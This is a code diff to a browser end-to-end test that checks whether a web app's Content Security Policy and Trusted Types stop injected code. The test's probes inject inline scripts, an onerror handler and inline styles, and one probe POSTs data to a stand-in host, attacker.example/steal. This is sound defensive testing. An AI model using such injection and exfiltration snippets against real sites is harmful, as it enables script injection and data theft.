@@ -68,17 +68,43 @@ const COMMON = {
 const TRUSTED_TYPES = { 'require-trusted-types-for': ["'script'"], 'trusted-types': ["'none'"] }
 
 /**
- * What an injected script would try under a build's policy, with Trusted Types: each sink that
- * takes markup or code refuses a string (throws), so nothing is parsed; what is left (a script
- * element's child text, a style attribute, a request to another host) the policy stops and reports.
+ * What an injected script would try, each of which the policy must stop: `inject` runs in the page
+ * (it sets window.__injected, marks what it adds with data-csp-probe, styles #csp-styled red inline,
+ * and returns the sinks that threw), then a request to another host. Checks that nothing ran, the
+ * style did not apply, the request was refused, and each of the page's `policies` (the header and
+ * the <meta>: each reports its own) reported `expected` (directive -> count). Returns what threw.
  */
-async function expectInjectionBlockedWithTrustedTypes(page: Page, policies: number): Promise<void> {
+async function expectInjectionStopped(page: Page, policies: number, expected: Readonly<Record<string, number>>, inject: () => string[]): Promise<{ thrown: string[]; reported: Violation[] }> {
   await page.evaluate(() => {
     (window as unknown as { __cspViolations: unknown[] }).__cspViolations = []
   })
-  const outcome = await page.evaluate(async () => {
-    const w = window as unknown as { __injected?: string[] }
-    w.__injected = []
+  const thrown = await page.evaluate(inject)
+  const sent = await page.evaluate(() => fetch('https://attacker.example/steal', { method: 'POST', body: 'key', mode: 'no-cors' }).then(() => 'sent', () => 'refused'))
+  await page.waitForTimeout(500)
+  const outcome = await page.evaluate(() => {
+    const color = getComputedStyle(document.getElementById('csp-styled')!).color
+    document.querySelectorAll('[data-csp-probe]').forEach((e) => e.remove())
+    return { ran: (window as unknown as { __injected: string[] }).__injected, color }
+  })
+  expect(outcome.ran, 'injected code that ran').toEqual([])
+  expect(outcome.color, 'an inline style attribute applied').not.toBe('rgb(255, 0, 0)')
+  expect(sent).toBe('refused')
+  await expect.poll(async () => (await violations(page)).map((v) => v.directive).sort(), { timeout: 5_000 })
+    .toEqual(Object.entries(expected).flatMap(([d, n]) => Array<string>(n * policies).fill(d)).sort())
+  const reported = await violations(page)
+  expect(reported.find((v) => v.directive === 'connect-src')?.blocked).toMatch(/^https:\/\/attacker\.example/)
+  return { thrown, reported }
+}
+
+/**
+ * Under a build's policy, with Trusted Types: each sink that takes markup or code refuses a string
+ * (throws), so nothing is parsed; what is left (a script element's child text, a style attribute, a
+ * request to another host) the policy stops and reports.
+ */
+async function expectInjectionBlockedWithTrustedTypes(page: Page, policies: number): Promise<void> {
+  // Each policy reports each: the four sinks and the script's child text (Trusted Types), the style, the request.
+  const { thrown } = await expectInjectionStopped(page, policies, { 'require-trusted-types-for': 5, 'style-src-attr': 1, 'connect-src': 1 }, () => {
+    (window as unknown as { __injected: string[] }).__injected = []
     const thrown: string[] = []
     const attempt = (sink: string, f: () => unknown) => {
       try {
@@ -96,73 +122,35 @@ async function expectInjectionBlockedWithTrustedTypes(page: Page, policies: numb
     attempt('DOMParser', () => new DOMParser().parseFromString('<p>x</p>', 'text/html'))
     // Text put into a <script> as a node, not through a sink: checked when the script would run.
     const child = document.createElement('script')
+    child.dataset.cspProbe = ''
     child.append(document.createTextNode('window.__injected.push("script child text")'))
     document.body.append(child)
     const styled = document.createElement('p')
+    styled.id = 'csp-styled'
+    styled.dataset.cspProbe = ''
     styled.textContent = 'x'
     styled.setAttribute('style', 'color: rgb(255, 0, 0)')
     document.body.append(styled)
-    let sent = 'sent'
-    try {
-      await fetch('https://attacker.example/steal', { method: 'POST', body: 'key', mode: 'no-cors' })
-    } catch {
-      sent = 'refused'
-    }
-    await new Promise((r) => setTimeout(r, 500))
-    const color = getComputedStyle(styled).color
-    child.remove()
-    styled.remove()
-    return { ran: w.__injected, thrown, color, sent }
+    return thrown
   })
-  expect(outcome.ran, 'injected code that ran').toEqual([])
-  expect(outcome.thrown, 'sinks that refused a string').toEqual(['script text: TypeError', 'innerHTML: TypeError', 'on* attribute: TypeError', 'DOMParser: TypeError'])
-  expect(outcome.color, 'an inline style attribute applied').not.toBe('rgb(255, 0, 0)')
-  expect(outcome.sent).toBe('refused')
-  // Each policy reports each: the four sinks and the script's child text (Trusted Types), the style, the request.
-  const expected = { 'require-trusted-types-for': 5, 'style-src-attr': 1, 'connect-src': 1 }
-  await expect.poll(async () => (await violations(page)).map((v) => v.directive).sort(), { timeout: 5_000 })
-    .toEqual(Object.entries(expected).flatMap(([d, n]) => Array<string>(n * policies).fill(d)).sort())
-  expect((await violations(page)).find((v) => v.directive === 'connect-src')?.blocked).toMatch(/^https:\/\/attacker\.example/)
+  expect(thrown, 'sinks that refused a string').toEqual(['script text: TypeError', 'innerHTML: TypeError', 'on* attribute: TypeError', 'DOMParser: TypeError'])
 }
 
-/**
- * What an injected script would try, each of which the policy must stop and report: an inline
- * <script>, an inline event handler, a style="" attribute in markup, a request to another host.
- * `policies`: how many policies the page enforces (the header and the <meta>: each reports its own).
- */
+/** Without Trusted Types (the dev server): an inline <script>, an inline event handler and a style="" attribute in markup. */
 async function expectInjectionBlocked(page: Page, policies: number): Promise<void> {
-  await page.evaluate(() => {
-    (window as unknown as { __cspViolations: unknown[] }).__cspViolations = []
-  })
-  const outcome = await page.evaluate(async () => {
-    const w = window as unknown as { __injected?: string[] }
-    w.__injected = []
+  const { reported } = await expectInjectionStopped(page, policies, { 'connect-src': 1, 'script-src-attr': 1, 'script-src-elem': 1, 'style-src-attr': 1 }, () => {
+    (window as unknown as { __injected: string[] }).__injected = []
     const script = document.createElement('script')
+    script.dataset.cspProbe = ''
     script.textContent = 'window.__injected.push("inline script")'
     document.body.append(script)
     const box = document.createElement('div')
+    box.dataset.cspProbe = ''
     box.innerHTML = '<img src="/csp-probe-missing.png" onerror="window.__injected.push(\'inline handler\')"><p id="csp-styled" style="color: rgb(255, 0, 0)">x</p>'
     document.body.append(box)
-    let sent = 'sent'
-    try {
-      await fetch('https://attacker.example/steal', { method: 'POST', body: 'key', mode: 'no-cors' })
-    } catch {
-      sent = 'refused'
-    }
-    await new Promise((r) => setTimeout(r, 500))
-    const color = getComputedStyle(document.getElementById('csp-styled')!).color
-    box.remove()
-    script.remove()
-    return { ran: w.__injected, color, sent }
+    return []
   })
-  expect(outcome.ran, 'injected code that ran').toEqual([])
-  expect(outcome.color, 'an inline style attribute applied').not.toBe('rgb(255, 0, 0)')
-  expect(outcome.sent).toBe('refused')
-  await expect.poll(async () => (await violations(page)).map((v) => v.directive).sort(), { timeout: 5_000 })
-    .toEqual(['connect-src', 'script-src-attr', 'script-src-elem', 'style-src-attr'].flatMap((d) => Array<string>(policies).fill(d)))
-  const reported = await violations(page)
   expect(reported.find((v) => v.directive === 'script-src-elem')?.blocked).toBe('inline')
-  expect(reported.find((v) => v.directive === 'connect-src')?.blocked).toMatch(/^https:\/\/attacker\.example/)
 }
 
 test('production build: the policy is sent and in the page, a demo desk trade runs without a violation, injected code is stopped', async ({ browser, stack }) => {
